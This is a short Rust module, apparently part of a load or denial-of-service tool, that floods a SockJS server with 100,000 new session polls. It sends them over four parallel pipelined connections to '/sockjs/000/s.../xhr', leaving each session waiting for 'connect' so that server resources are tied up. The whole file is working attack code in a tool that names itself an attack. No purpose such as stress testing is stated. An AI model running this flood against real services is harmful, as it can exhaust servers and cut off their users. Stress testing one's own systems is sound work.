//! Polls of new SockJS sessions: each opens a session that waits for `connect`.

use crate::attack::{Attack, in_parallel};
use crate::http::{pipeline, request};

const CONNECTIONS: usize = 4;
const POLLS: usize = 100_000;

pub(super) fn flood(attack: &Attack) {
    in_parallel(CONNECTIONS, |connection| {
        let own = (0..POLLS).skip(connection).step_by(CONNECTIONS);
        pipeline(attack, own.map(|session| request("POST", &format!("/sockjs/000/s{session:07}/xhr"), "", "")));
    });
}
